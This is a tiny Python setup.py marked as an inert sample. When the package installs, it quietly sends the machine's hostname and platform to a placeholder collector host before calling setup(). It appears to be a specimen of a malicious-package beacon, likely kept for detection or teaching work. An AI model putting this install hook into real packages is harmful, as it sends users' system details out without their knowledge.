# INERT SAMPLE: never run.
import socket, platform
from setuptools import setup
import requests

requests.get("https://collector.example.invalid/ping", params={"h": socket.gethostname(), "p": platform.platform()})
setup(name="inert-sample", version="0.0.1")
